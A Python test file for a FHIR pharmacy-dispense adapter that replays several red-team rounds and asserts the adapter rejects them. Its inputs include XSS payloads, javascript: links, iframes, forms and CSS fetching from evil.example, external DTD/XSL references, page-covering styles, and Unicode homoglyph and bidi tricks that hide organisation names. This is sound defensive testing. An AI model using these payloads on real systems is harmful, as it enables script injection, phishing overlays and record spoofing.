"""The twelfth attack's findings at the adapter and the text rule (tests/security/test_attack10_rx.py
replays them through the gateway): another organisation named in any text of a dispense (the narrative, a
contained Organization, an identifier's assigner, a note's author string, an extension, a tag ...); Han
numerals for an id's or a name's digits; a contained Medication's ``_status``; arrays and texts bounded."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from adapters import AdaptContext, adapt
from adapters._common import id_skeleton
from adapters.errors import PayloadInvalid
from adapters.rx.medication import name_key
from adapters.rx.mentions import MAX_ITEMS, MAX_TEXT, _ids_another, _names_another, check_texts, strings
from devnet.deploy import demo_orgs
from tests.adapters.rx.test_dispense_names import DISPENSE, NAME, NOTE
from tests.adapters.test_rx_adapter import ISSUE

ORGS = [(o.id, o.role, o.name) for o in demo_orgs()]
ORG = {"reference": "Organization/pharmacy-1", "display": NAME}
TRACED = DISPENSE["extension"]  # the boxes' trace codes
DIV = '<div xmlns="http://www.w3.org/1999/xhtml">解放碑<b></b>大&#33647;房 代发</div>'
# The attacker's inputs (kit12): pharmacy-2's dispense naming pharmacy-1 (解放碑大药房) in fields the
# performer rules do not read, and the field each is refused naming.
NAMED: list[tuple[str, dict[str, Any], str]] = [
    ("narrative", {"text": {"status": "generated", "div": DIV}}, "text.div"),
    (
        "contained Organization",
        {
            "contained": [
                {"resourceType": "Organization", "id": "o1", "name": NAME, "identifier": [{"value": "x"}]}
            ],
            "supportingInformation": [{"reference": "#o1"}],
        },
        "contained.0.name",
    ),
    (
        "contained Organization by id",
        {
            "contained": [
                {"resourceType": "Organization", "id": "o1", "identifier": [{"value": "pharmacy-1"}]}
            ],
            "supportingInformation": [{"reference": "#o1"}],
        },
        "contained.0.identifier.0.value",
    ),
    (
        "identifier assigner",
        {"identifier": [{"value": "DS1", "assigner": {"reference": "Organization/pharmacy-1"}}]},
        "identifier.0.assigner.reference",
    ),
    ("supportingInformation", {"supportingInformation": [ORG]}, "supportingInformation.0.display"),
    ("note authorString", {"note": [{"authorString": NAME, "text": "已核对"}]}, "note.0.authorString"),
    (
        "extension valueReference",
        {
            "extension": [
                *TRACED,
                {"url": "urn:x", "valueReference": {"reference": "Organization/pharmacy-1"}},
            ]
        },
        "extension.2.valueReference.reference",
    ),
    (
        "extension valueString",
        {"extension": [*TRACED, {"url": "urn:x", "valueString": NAME}]},
        "extension.2.valueString",
    ),
    ("meta tag", {"meta": {"tag": [{"code": "pharmacy-1"}]}}, "meta.tag.0.code"),
    ("partOf", {"partOf": [{"reference": "Procedure/pharmacy1"}]}, "partOf.0.reference"),
    ("context", {"context": {"display": NAME}}, "context.display"),
    ("eventHistory", {"eventHistory": [{"display": "pharmacy-1 发药"}]}, "eventHistory.0.display"),
    ("detectedIssue", {"detectedIssue": [{"display": NAME}]}, "detectedIssue.0.display"),
    ("category", {"category": {"text": NAME}}, "category.text"),
    ("type", {"type": {"text": "解放碑 大药房"}}, "type.text"),
    ("note text", {"note": [{"text": f"{NAME}代发"}]}, "note.0.text"),
    (
        "dosageInstruction",
        {"dosageInstruction": [{"text": f"{NAME} 执业药师 王敏 核对"}]},
        "dosageInstruction.0.text",
    ),
    ("Han numeral id", {"note": [{"text": "pharmacy一 代发"}]}, "note.0.text"),
]


def _texts(changes: dict[str, Any]) -> dict[str, str]:
    """The dispense's texts as the adapter hands them to the workflow."""
    done = adapt("rx.dispense", {**copy.deepcopy(DISPENSE), **copy.deepcopy(changes)}, AdaptContext())
    texts: dict[str, str] = done.detail["texts"]
    assert texts == strings({**DISPENSE, **changes})
    return texts


@pytest.mark.parametrize(("changes", "field"), [c[1:] for c in NAMED], ids=[c[0] for c in NAMED])
def test_no_text_names_another_organisation(changes: dict[str, Any], field: str) -> None:
    texts = _texts(changes)
    with pytest.raises(PayloadInvalid) as e:
        check_texts(texts, ORGS, "pharmacy-2", (), "hospital-1")
    assert (e.value.code, e.value.details) == ("RX_DISPENSE_MISMATCH", {"field": field})
    check_texts(texts, ORGS, "pharmacy-1", (), "hospital-1")  # pharmacy-1 may name itself


def test_the_sample_the_prescriber_and_cleared_pharmacists_pass() -> None:
    """The accepted sample passes; the prescribing hospital is named within authorizingPrescription alone;
    a pharmacist the performer rules cleared is named anywhere."""
    check_texts(_texts({}), ORGS, "pharmacy-2", (), "hospital-1")
    texts = strings(
        {
            **DISPENSE,
            "text": {
                "status": "generated",
                "div": '<div xmlns="http://www.w3.org/1999/xhtml">观音桥药店 pharmacy-2 发药</div>',
            },
        }
    )
    assert texts["text.div"] == "观音桥药店 pharmacy-2 发药"
    check_texts(texts, ORGS, "pharmacy-2", (), "hospital-1")
    prescribed = strings(
        {
            **DISPENSE,
            "authorizingPrescription": [
                {"reference": "MedicationRequest/R1", "display": "山城第一人民医院 处方"}
            ],
        }
    )
    check_texts(prescribed, ORGS, "pharmacy-2", (), "hospital-1")
    with pytest.raises(PayloadInvalid) as e:  # another hospital than the prescriber's
        check_texts(prescribed, ORGS, "pharmacy-2", (), "hospital-2")
    assert e.value.details == {"field": "authorizingPrescription.0.display"}
    with pytest.raises(PayloadInvalid) as e:  # the prescriber outside authorizingPrescription
        check_texts(strings({"note": [{"text": "山城第一人民医院"}]}), ORGS, "pharmacy-2", (), "hospital-1")
    assert e.value.details == {"field": "note.0.text"}
    noted = strings({"note": [{"text": "解放碑大药房 执业药师 王敏 核对"}]})
    check_texts(noted, ORGS, "pharmacy-1", {"pharmacist-1"})


def test_han_numerals_are_digits() -> None:
    """Finding 2: 一 and 壹 (and 〇..九, 零..玖) write the digits of an id and a name."""
    assert id_skeleton("pharmacy一") == id_skeleton("Pharmacy-壹") == id_skeleton("pharmacy-1") == "PHARMACYI"
    assert id_skeleton("station〇二") == "STATIONO2"  # 0 and O, 1 and l and I: one look-alike each
    assert name_key("山城第1人民医院") == name_key("山城第一人民医院") == name_key("山城第壹人民醫院")
    others = ["pharmacy-1", "hospital-1"]
    for display in ("pharmacy一", "hospital一 医生", "ｈｏｓｐｉｔａｌ壹"):
        assert _ids_another(display, others, "pharmacy-2"), display
    assert _names_another("山城第1人民医院 医生", ["山城第一人民医院"], "观音桥药店")
    with pytest.raises(PayloadInvalid) as e:
        check_texts(_texts({"note": [{"text": "山城第1人民医院 医生"}]}), ORGS, "pharmacy-2")
    assert e.value.details == {"field": "note.0.text"}
    assert not _ids_another("pharmacy二 王敏", others, "pharmacy-2")


def test_a_contained_medications_status_carries_no_extension() -> None:
    """Finding 3: ``_status`` (a data-absent-reason) beside no status is refused; without it, recorded."""
    obj = copy.deepcopy(DISPENSE)
    med = {"resourceType": "Medication", "id": "m1", "code": obj.pop("medicationCodeableConcept")}
    obj |= {"contained": [med], "medicationReference": {"reference": "#m1"}}
    adapt("rx.dispense", obj, AdaptContext())
    med["_status"] = NOTE  # a data-absent-reason extension
    with pytest.raises(PayloadInvalid) as e:
        adapt("rx.dispense", obj, AdaptContext())
    assert (e.value.code, e.value.details) == ("RX_DISPENSE_MISMATCH", {"field": "contained.0._status"})


def test_arrays_and_texts_are_bounded() -> None:
    """Finding 4: more than 20 notes or instructions, a text of more than 2,000 characters, refused naming
    the field before FHIR validation reads them; 20 notes of 2,000 characters are recorded."""
    for changes, field in [
        ({"note": [{"text": "已核对"}] * 200_000}, "note"),
        ({"dosageInstruction": [{"text": "口服"}] * (MAX_ITEMS + 1)}, "dosageInstruction"),
        ({"note": [{"text": "核" * 300_000}]}, "note.0.text"),
        ({"dosageInstruction": [{"text": "服" * (MAX_TEXT + 1)}]}, "dosageInstruction.0.text"),
        (
            {"contained": [{"resourceType": "Organization", "id": "o", "alias": ["x"] * 21}]},
            "contained.0.alias",
        ),
    ]:
        obj = {**copy.deepcopy(DISPENSE), **changes}
        with pytest.raises(PayloadInvalid) as e:
            adapt("rx.dispense", obj, AdaptContext())
        limit = MAX_TEXT if field.endswith("text") else MAX_ITEMS
        assert (e.value.code, e.value.details) == ("RX_DISPENSE_TOO_LARGE", {"field": field, "limit": limit})
    _texts({"note": [{"text": "核" * MAX_TEXT}] * MAX_ITEMS})


# The thirteenth attack (kit13, t_text_bypass.py .. t_text5.py): pharmacy-1 (解放碑大药房) and hospital-1
# (山城第一人民医院) named in a note through characters drawn as nothing or over a letter, right-to-left
# reordering, look-alike letters and other scripts' digits, and narrative markup the rule did not read.
X = "http://www.w3.org/1999/xhtml"
BYPASSES: list[tuple[str, dict[str, Any], str]] = [
    *(
        (label, {"note": [{"text": text}]}, "note.0.text")
        for label, text in [
            ("variation selector", "解\ufe00放碑大药房"),
            ("combining mark", "解\u0301放碑大药房"),
            ("Hangul filler", "解\u3164放碑大药房"),
            ("braille blank", "解\u2800放碑大药房"),
            ("enclosing circles", "".join(c + "\u20dd" for c in NAME)),
            ("right-to-left override", "\u202e房药大碑放解\u202c"),
            ("Cyrillic a", "ph\u0430rmacy-1"),
            ("Latin alpha", "ph\u0251rm\u0251cy-1"),
            ("Arabic-Indic one", "pharmacy-\u0661"),
            ("Devanagari one", "pharmacy-\u0967"),
            ("Suzhou numeral", "pharmacy\u3021"),
            ("yao", "pharmacy幺"),
            ("archaic one", "pharmacy弌"),
            ("Roman numeral", "pharmacy-Ⅰ"),
            ("l for 1", "hospital-l"),
            ("I for 1", "hospital-I"),
            ("Roman numeral in a name", "山城第Ⅰ人民医院"),
            ("yao in a name", "山城第幺人民医院"),
        ]
    ),
    *(
        (label, {"text": {"status": "generated", "div": f'<div xmlns="{X}">{div}</div>'}}, "text.div")
        for label, div in [
            ("title", f'<span title="{NAME}">代发</span>'),
            ("alt", f'<img src="https://example.org/p.png" alt="{NAME}"/>'),
            ("bdo", '<bdo dir="rtl">房药大碑放解</bdo>'),
            ("ruby", "<ruby>解<rt>jie</rt>放<rt>fang</rt>碑大药房</ruby>"),
            ("hidden span", '解<span style="display:none">x</span>放碑大药房'),
        ]
    ),
]
# Honest notes the twelfth round's rule refused: an id's words apart are no id.
HONEST = [
    "Picked up at the pharmacy, 1 box; take 2 daily",
    "Patient returns to the hospital 1 week later",
    "bus station 2 nearby",
    "the data owner was informed",
    "gas utility bill",
    "观音桥药店 发药",
    "口服，一次一粒，一日三次",
]


@pytest.mark.parametrize(("changes", "field"), [c[1:] for c in BYPASSES], ids=[c[0] for c in BYPASSES])
def test_thirteenth_names_in_other_forms_are_found(changes: dict[str, Any], field: str) -> None:
    with pytest.raises(PayloadInvalid) as e:  # reordering is refused as the texts are read (fourteenth)
        check_texts(_texts(changes), ORGS, "pharmacy-2", (), "hospital-2")
    assert (e.value.code, e.value.details["field"]) == ("RX_DISPENSE_MISMATCH", field)


ACTIVE = [
    "<script>alert(1)</script>",
    '<img src="x" onerror="alert(1)"/>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<form action="https://evil.example"><input name="token"/></form>',
    '<span style="background:url(https://evil.example/t.png)">x</span>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4="/>',
]
MALFORMED = ["<div>", "a < b", "&nbsp;", "<![CDATA[x", "<!-- x", '<p title="x>y</p>']


@pytest.mark.parametrize("div", ACTIVE + MALFORMED)
def test_thirteenth_narratives_hold_to_txt_1(div: str) -> None:
    """Finding 3: a narrative is formatting only (R4 txt-1), well-formed XHTML: FHIR_INVALID naming it, in a
    dispense and in a prescription alike."""
    narrative = {"status": "generated", "div": f'<div xmlns="{X}">{div}</div>'}
    for kind, obj in (("rx.dispense", DISPENSE), ("rx.issue", ISSUE)):
        with pytest.raises(PayloadInvalid) as e:
            adapt(kind, {**copy.deepcopy(obj), "text": narrative}, AdaptContext())
        assert (e.value.code, e.value.details) == ("FHIR_INVALID", {"field": "text.div"}), (kind, div)
    with pytest.raises(PayloadInvalid) as e:  # no XHTML namespace
        adapt(
            "rx.issue", {**copy.deepcopy(ISSUE), "text": {**narrative, "div": "<div>x</div>"}}, AdaptContext()
        )
    assert e.value.code == "FHIR_INVALID"


def test_thirteenth_formatting_links_and_images_pass() -> None:
    plain = (
        '<p>观音桥药店 <b>发药</b></p><table><tr><th scope="col">数量</th></tr><tr><td>1</td></tr></table>'
        '<a href="https://example.org/a" title="说明">link</a> 2 mg/m<sup>2</sup>'
    )
    images = '<img src="data:image/png;base64,iVBORw0K" alt="图"/><ruby>药<rt>yao</rt></ruby>'
    for kind, obj, div in (
        ("rx.dispense", DISPENSE, plain),
        ("rx.issue", ISSUE, plain + images),  # a prescription's narrative is held to R4 alone
    ):
        narrative = {"status": "generated", "div": f'<div xmlns="{X}">{div}</div>'}
        adapt(kind, {**copy.deepcopy(obj), "text": narrative}, AdaptContext())


# The fourteenth attack (kit14): a right-to-left override over part of a text, CJK marks drawn as 一, accented
# and stroked letters (finding 1); reordering markup and an image's alt beside the text (finding 2); a
# narrative's prolog, DTD and processing instructions, styles that fetch or cover the page (finding 3); ids
# found inside longer words (finding 4).
PARTIAL_BIDI = ["解放碑\u202e房药大\u202c", "from pharm\u202e1-ycam\u202c today", "解放碑\u2067房药大\u2069"]
FOURTEENTH_NOTES = [
    "山城第\u31d0人民医院",
    "山城第\u3127人民医院",
    "山城第ー人民医院",
    "pha\u0301rmac\u0327y-1",
    "phármaçy-1",
    "hospital-ì",
    "hospitał-1",
    "høspital-1",
]
REORDERED = [
    '<p>解放碑<bdo dir="rtl">房药大</bdo></p>',
    '<p>解放碑<span style="unicode-bidi:bidi-override;direction:rtl">房药大</span></p>',
    '<p style="display:flex">碑<span style="order:-1">放</span><span style="order:-2">解</span>大药房</p>',
    "<ol><li style=\"list-style-type:'解放碑'\">大药房</li></ol>",
]
PROLOGUE = [
    '<!DOCTYPE div SYSTEM "https://evil.example/x.dtd">',
    '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>',
    '<?xml version="1.0" encoding="UTF-7"?>',
]
FETCHING = [
    "<p style=\"background-image:image-set('https://evil.example/t.png' 1x)\">x</p>",
    '<a href="https://example.org" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
    '<a href="//evil.example/">x</a>',
    "<p>x</p><?php echo 1; ?>",
]
WORDS = [
    "Patient was recently hospitalized; dose reduced per prescriber.",
    "Counselled on signs requiring hospitalization.",
    "Monitor for auditory side effects (tinnitus).",
    "Dispensed per regulatory requirements.",
    "Claim submitted to the insurers portal.",
    "Stationing of stock checked.",
]


def _refused_on(changes: dict[str, Any], code: str, field: str) -> dict[str, Any]:
    with pytest.raises(PayloadInvalid) as e:
        check_texts(_texts(changes), ORGS, "pharmacy-2", (), "hospital-2")
    assert (e.value.code, e.value.details["field"]) == (code, field), changes
    return e.value.details


def test_fourteenth_partial_reordering_look_alikes_and_accents_are_found() -> None:
    for text in PARTIAL_BIDI:
        details = _refused_on({"note": [{"text": text}]}, "RX_DISPENSE_MISMATCH", "note.0.text")
        assert details["character"] in ("U+202E", "U+2067"), text
    for text in FOURTEENTH_NOTES:
        _refused_on({"note": [{"text": text}]}, "RX_DISPENSE_MISMATCH", "note.0.text")
    for div in [
        *REORDERED,
        '<p>解放碑<img alt="大药房" src="data:image/png;base64,AA=="/></p>',
        "<p>解放碑&#x202E;房药大</p>",
    ]:
        narrative = {"status": "generated", "div": f'<div xmlns="{X}">{div}</div>'}
        with pytest.raises(PayloadInvalid) as e:
            _texts({"text": narrative})  # the reordering is refused while the texts are read
            check_texts(_texts({"text": narrative}), ORGS, "pharmacy-2", (), "hospital-2")
        # Most reordering styles are no style R4's check takes any more (FHIR_INVALID, the seventeenth
        # round's allow-list of properties); the rest, a plain narrative's rule.
        assert e.value.code in ("FHIR_INVALID", "RX_DISPENSE_MISMATCH"), div
        assert e.value.details["field"] == "text.div", div


def test_fourteenth_narratives_are_the_div_alone_and_fetch_nothing() -> None:
    cases = [f'{p}<div xmlns="{X}">x</div>' for p in PROLOGUE]
    cases += [f'<div xmlns="{X}">{div}</div>' for div in FETCHING]
    for div in cases:
        for kind, obj in (("rx.dispense", DISPENSE), ("rx.issue", ISSUE)):
            with pytest.raises(PayloadInvalid) as e:
                adapt(
                    kind, {**copy.deepcopy(obj), "text": {"status": "generated", "div": div}}, AdaptContext()
                )
            assert (e.value.code, e.value.details) == ("FHIR_INVALID", {"field": "text.div"}), (kind, div)


@pytest.mark.parametrize("text", [*HONEST, *WORDS])
def test_honest_notes_pass(text: str) -> None:
    # The thirteenth round's notes (an id is matched within a word only) and the fourteenth's (and as whole
    # parts of a word: "hospitalized" is not hospital-1).
    check_texts(_texts({"note": [{"text": text}]}), ORGS, "pharmacy-2", (), "hospital-1")


# The fifteenth attack (kit15): a styled name beside a hidden decoy, a 0×0 image's alt as a decoy letter, CSS
# layout moving the name's characters, styles covering the page through a comment or a transform, and ids
# in letters Unicode only names as Latin (small capitals, negative squared, regional indicators, dingbats).
STYLED = [
    '<p style="color:#000">解放碑<span style="display:none">的</span>大药房</p>',
    '<p><span style="color:#000">pharmacy-</span><span style="display:none">x</span><span>1</span></p>',
    '<p class="grid">解放碑大药房</p>',
]
LATIN_FORMS = ["ᴘʜᴀʀᴍᴀᴄʏ-1", "🅿🅷🅰🆁🅼🅰🅲🆈-1", "🇵🇭🇦🇷🇲🇦🇨🇾-1", "pharmacy-➀", "pharmacy-❶"]


def test_fifteenth_styles_and_decoys_and_named_letters() -> None:
    for div in STYLED:
        narrative = {"status": "generated", "div": f'<div xmlns="{X}">{div}</div>'}
        with pytest.raises(PayloadInvalid) as e:
            _texts({"text": narrative})
        assert (e.value.code, e.value.details["field"]) == ("RX_DISPENSE_MISMATCH", "text.div"), div
        assert e.value.details.get("attribute") in ("style", "class"), div
    decoy = f'<div xmlns="{X}"><p>pharmacy-<img src="https://example.org/p" alt="x" width="0"/>1</p></div>'
    _refused_on({"text": {"status": "generated", "div": decoy}}, "RX_DISPENSE_MISMATCH", "text.div")
    for text in LATIN_FORMS:
        _refused_on({"note": [{"text": text}]}, "RX_DISPENSE_MISMATCH", "note.0.text")


# The sixteenth attack (kit16): what XML reads and what an HTML viewer draws, apart. Nested and self-closed
# size-changing elements shrinking a decoy (F16-1), comments inside CSS strings (F16-2), markdown notes
# (F16-3), table layout and list markers (F16-4), images loaded and not (F16-7), Cyrillic small letters drawn
# as small capitals (F16-8), content in void elements (F16-9), CDATA and comments (F16-10, F16-11), text
# between a row's cells (F16-12).
def _div(inner: str) -> dict[str, Any]:
    return _div_raw(f'<div xmlns="{X}">{inner}</div>')


def _div_raw(div: str) -> dict[str, Any]:
    return {"text": {"status": "generated", "div": div}}


PNG = (  # a valid 1x1 image: drawn, its alt not
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
NOT_PLAIN = [
    ("pharmacy" + "<small>" * 30 + "X" + "</small>" * 30 + "-1 发药", "element", "small"),
    ("解放碑" + "<sub>" * 30 + "观" + "</sub>" * 30 + "大药房", "element", "sub"),
    ("解放碑<sup><small>观</small></sup>大药房", "element", "small"),
    ("解放碑" + "<small/>" * 40 + "观大药房", "self_closed", "small"),
    ('解放碑<span title="a>b"/>观大药房', "self_closed", "span"),
    (
        '<table border="0"><tr><td rowspan="2" valign="bottom">解放碑</td><td>观音桥</td></tr>'
        "<tr><td>大药房</td></tr></table>",
        "attribute",
        "rowspan",
    ),
    ('大药房 发药<table align="left"><tr><td>解放碑</td></tr></table>', "attribute", "align"),
    ('<ol start="1"><li>x</li></ol>', "attribute", "start"),
    (f'解放碑<img src="{PNG}" alt="观"/>大药<img alt="房"/> 发药', "element", "img"),
    ("<table><tr><td>解放碑</td>观<td>大药房</td></tr></table>", "text_in", "tr"),
    ("<table><tr><td>解放碑</td><td>大药房</td></tr>观</table>", "text_in", "table"),
    ("<table><tr><td>解放碑</td><span>观</span><td>大药房</td></tr></table>", "element", "span"),
    ("<table><tfoot><tr><td>解放碑</td></tr></tfoot></table>", "element", "tfoot"),
]


@pytest.mark.parametrize(("div", "what", "name"), NOT_PLAIN)
def test_sixteenth_what_a_viewer_draws_elsewhere_is_refused(div: str, what: str, name: str) -> None:
    details = _refused_on(_div(div), "RX_DISPENSE_MISMATCH", "text.div")
    assert details[what] == name, details


def test_sixteenth_html_and_xml_read_alike_in_every_narrative() -> None:
    for div in [
        "解放碑<![CDATA[观]]>大药房",  # a comment to HTML
        '<p><!--><img src="x" onerror="alert(1)"/>--></p>',  # one comment to XML, live markup to HTML
        "<p><![CDATA[><img src=x onerror=alert(1)>]]></p>",
        "<p>x<!-- note --></p>",
        f'解放碑<img src="{PNG}" alt="观">大</img>药房',  # an img holds nothing: drawn as text after it
        "pharmacy-<br>1</br>",
    ]:
        for kind, obj in (("rx.dispense", DISPENSE), ("rx.issue", ISSUE)):
            with pytest.raises(PayloadInvalid) as e:
                adapt(kind, {**copy.deepcopy(obj), **_div(div)}, AdaptContext())
            assert (e.value.code, e.value.details) == ("FHIR_INVALID", {"field": "text.div"}), (kind, div)


# Styles that fetch, cover or scale the page: the fifteenth round's (a comment inside, a transform) and the
# sixteenth's (comments inside CSS strings, zoom, negative margins, src()).
COVERING = [
    "position:/**/fixed;top:0",
    "position/**/:fixed",
    "transform:scale(100)",
    "font-family:'/*';background:url(https://evil.example/p.png);font-family:'*/'",
    'font-family:"/*";position:fixed;top:0;font-family:"*/"',
    "font-family:'/*';transform:scale(100);font-family:'*/'",
    "zoom:100",
    "display:block;margin:-2000px;padding:2000px",
    "margin-top: -50px",
    "background:src('https://evil.example/p.png')",
]


@pytest.mark.parametrize("style", COVERING)
def test_styles_may_not_fetch_cover_or_scale_the_page(style: str) -> None:
    div = f'<div xmlns="{X}"><a href="https://example.org" style="{style}">x</a></div>'
    with pytest.raises(PayloadInvalid) as e:
        adapt("rx.issue", {**copy.deepcopy(ISSUE), **_div_raw(div)}, AdaptContext())
    assert (e.value.code, e.value.details) == ("FHIR_INVALID", {"field": "text.div"}), style


def test_a_prescriptions_narrative_keeps_classes_and_ordinary_styles() -> None:
    for p in ('<p class="x" style="color:red">', '<p style="margin:0 0 4px 0;color:#333;text-align:right">'):
        div = f'<div xmlns="{X}">{p}山城中医院 处方</p></div>'
        adapt("rx.issue", {**copy.deepcopy(ISSUE), **_div_raw(div)}, AdaptContext())


def test_sixteenth_markdown_notes_are_read_as_drawn_and_hold_no_html() -> None:
    for text in ("解放碑[](x)大药房 发药", "解放碑`大药房` 发药", "pharm[acy](https://example.org)-1 ok"):
        _refused_on({"note": [{"text": text}]}, "RX_DISPENSE_MISMATCH", "note.0.text")
    for text in (
        "解放碑<!-- 观 -->大药房 发药",
        "解放碑<span>大药房</span>",
        '<img src="x" onerror="alert(document.cookie)">',
        "<script>alert(1)</script>",
        '<iframe src="https://evil.example/"></iframe>',
        "![](https://evil.example/track.png)",
    ):
        for kind, obj in (("rx.dispense", DISPENSE), ("rx.issue", ISSUE)):
            with pytest.raises(PayloadInvalid) as e:
                adapt(kind, {**copy.deepcopy(obj), "note": [{"text": text}]}, AdaptContext())
            assert (e.value.code, e.value.details) == ("FHIR_INVALID", {"field": "note.0.text"}), (kind, text)
    honest = "**每日一次**，饭后服用\n\n1. take 2 daily\n2. dose < 5 mg, see [leaflet](https://example.org/l)"
    check_texts(_texts({"note": [{"text": honest}]}), ORGS, "pharmacy-2", (), "hospital-1")


def test_sixteenth_cyrillic_small_letters_drawn_as_small_capitals_and_list_numbers() -> None:
    for text in ("нospital-1 复诊", "pharмacy-1 发药", "sтation-1 送达"):
        _refused_on({"note": [{"text": text}]}, "RX_DISPENSE_MISMATCH", "note.0.text")
    # An ordered list's number is drawn beside the text before it.
    listed = "<table><tr><td>pharmacy-</td><td><ol><li>&#160;</li></ol></td></tr></table>"
    _refused_on(_div(listed), "RX_DISPENSE_MISMATCH", "text.div")
    plain = "<p>观音桥药店 发药</p><ol><li>每日一次</li><li>饭后服用</li></ol><p>2 mg/m<sup>2</sup></p>"
    check_texts(_texts(_div(plain)), ORGS, "pharmacy-2", (), "hospital-1")


# The seventeenth attack (kit17): character references a browser draws as Windows-1252 letters (K17-1),
# styles covering the page by properties the deny-list missed (K17-2), relative image sources (K17-3), an li
# inside a div inside an ol and a caption written after the rows (K17-4, K17-5), markdown footnotes and
# javascript: links (K17-6, K17-8), ids and names clobbering a viewer's scripts (K17-7); a huge border
# (K17-9) is the eighteenth's below.
@pytest.mark.parametrize(
    ("div", "what", "name"),
    [
        ("<ol><div><li>x</li></div></ol>", "element", "div"),
        ("<ul><li>a</li>解放碑<li>b</li></ul>", "text_in", "ul"),
        ("<table><tr><td>1</td></tr><caption>PHARMACY-</caption></table>", "element", "caption"),
        ("<table><tr><td>1</td></tr><thead><tr><th>PHARMACY-</th></tr></thead></table>", "element", "thead"),
        ('<p id="getElementById">x</p>', "attribute", "id"),
        ('<a name="CONFIG" href="https://evil.example">x</a>', "attribute", "name"),
    ],
)
def test_seventeenth_plain_narratives_draw_as_written(div: str, what: str, name: str) -> None:
    details = _refused_on(_div(div), "RX_DISPENSE_MISMATCH", "text.div")
    assert details[what] == name, details


def test_seventeenth_windows_1252_references_are_refused() -> None:
    for changes, field in [
        (_div("<p>PHARMAC&#x9F;-1</p>"), "text.div"),
        (_div("<p>ho&#x9A;pital-1</p>"), "text.div"),
        (_div('<p title="PHARMACI&#x8A;T-1">x</p>'), "text.div"),
        ({"note": [{"text": "ho\x9apital-1 转诊"}]}, "note.0.text"),
    ]:
        details = _refused_on(changes, "RX_DISPENSE_MISMATCH", field)
        assert details["character"] in ("U+009F", "U+009A", "U+008A"), changes
    # In markdown the reference is read as a browser resolves it: Ÿ, the id.
    _refused_on({"note": [{"text": "PHARMAC&#x9F;-1 取药"}]}, "RX_DISPENSE_MISMATCH", "note.0.text")


@pytest.mark.parametrize(
    "style",
    [
        "scale:100",
        "translate:10px 10px",
        "rotate:10deg",
        "offset-path:path('M0 0')",
        "position:relative;top:-500px",
        "box-shadow:0 0 0 9999px white",
        "outline:9999px solid white",
        "text-shadow:0 -500px 0 red",
        "width:100vw;height:100vh",
        "font-size:9999px",
        "color:red;background:url(https://evil.example/p.png)",
    ],
)
def test_seventeenth_styles_are_an_allow_list(style: str) -> None:
    div = f'<div xmlns="{X}"><p style="{style}">x</p></div>'
    with pytest.raises(PayloadInvalid) as e:
        adapt("rx.issue", {**copy.deepcopy(ISSUE), **_div_raw(div)}, AdaptContext())
    assert (e.value.code, e.value.details) == ("FHIR_INVALID", {"field": "text.div"}), style


def test_seventeenth_image_sources_markdown_links_and_footnotes() -> None:
    cases: list[tuple[dict[str, Any], str]] = [
        (_div('<img src="/api/v1/orgs" alt="x"/>'), "text.div"),
        ({"note": [{"text": "PHARMACY-[^a]\n\n[^a]: x"}]}, "note.0.text"),
        ({"note": [{"text": "[详情](javascript:alert(1))"}]}, "note.0.text"),
        ({"note": [{"text": "[详情](&#106;avascript:alert(1))"}]}, "note.0.text"),
        ({"note": [{"text": "[详情](data:text/html,hi)"}]}, "note.0.text"),
        ({"note": [{"text": "[详情][1]\n\n[1]: javascript:alert(1)"}]}, "note.0.text"),
    ]
    for changes, field in cases:
        with pytest.raises(PayloadInvalid) as e:
            adapt("rx.issue", {**copy.deepcopy(ISSUE), **changes}, AdaptContext())
        assert (e.value.code, e.value.details) == ("FHIR_INVALID", {"field": field}), changes


def test_seventeenth_ordinary_narratives_and_notes_pass() -> None:
    table = (
        '<table border="1" cellpadding="4"><caption>发药记录</caption>'
        "<thead><tr><th>药品</th><th>数量</th></tr></thead>"
        "<tbody><tr><td>阿莫西林胶囊</td><td>2 盒</td></tr></tbody></table>"
        "<ul><li>饭后服用</li><li>每日三次</li></ul>"
    )
    check_texts(_texts(_div(table)), ORGS, "pharmacy-2", (), "hospital-1")
    note = "详见[说明书](https://example.org/leaflet)；如有不适请复诊 (see <https://example.org/faq>)"
    check_texts(_texts({"note": [{"text": note}]}), ORGS, "pharmacy-2", (), "hospital-1")
    styled = (
        '<div xmlns="http://www.w3.org/1999/xhtml"><table style="border-collapse:collapse;width:100%">'
        "<tr><td style=\"padding:4px 8px;border:1px solid #ccc;font-family:'Microsoft YaHei', sans-serif\">"
        '阿莫西林</td><td style="text-align:right;color:rgb(51, 51, 51);font-weight:bold">2 盒</td></tr>'
        "</table></div>"
    )
    adapt("rx.issue", {**copy.deepcopy(ISSUE), **_div_raw(styled)}, AdaptContext())


# The eighteenth attack (kit18): sizes bounded per declaration compounding through nesting, HTML's size
# attributes unbounded (a 100,000 px transparent image-link, a 100,000 px border) (F18-1); javascript:
# markdown links through HTML5 whitespace references, live in marked (F18-2).
PAGE_SIZED = [
    '<p style="font-size:10em">x</p>',
    "".join('<span style="font-size:3em">' for _ in range(25)) + "x" + "</span>" * 25,
    "<big><big>x</big></big>",
    '<p style="font-size:larger">x</p>',
    '<p style="padding:1000px">x</p>',
    '<p style="letter-spacing:1000px">x</p>',
    '<p style="line-height:100">x</p>',
    '<a href="https://evil.example/login"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="'
    ' width="100000" height="100000"/></a>',
    '<table border="100000"><tr><td>x</td></tr></table>',
    '<table width="100000" height="100000"><tr><td>x</td></tr></table>',
    '<table cellpadding="5000"><tr><td>x</td></tr></table>',
    '<table><tr><td colspan="1000" rowspan="65534">x</td></tr></table>',
    '<table width="150%"><tr><td>x</td></tr></table>',
]


@pytest.mark.parametrize("div", PAGE_SIZED)
def test_eighteenth_sizes_are_bounded_as_drawn(div: str) -> None:
    for kind, obj in (("rx.issue", ISSUE), ("rx.dispense", DISPENSE)):
        with pytest.raises(PayloadInvalid) as e:
            adapt(kind, {**copy.deepcopy(obj), **_div(div)}, AdaptContext())
        assert (e.value.code, e.value.details) == ("FHIR_INVALID", {"field": "text.div"}), (kind, div)


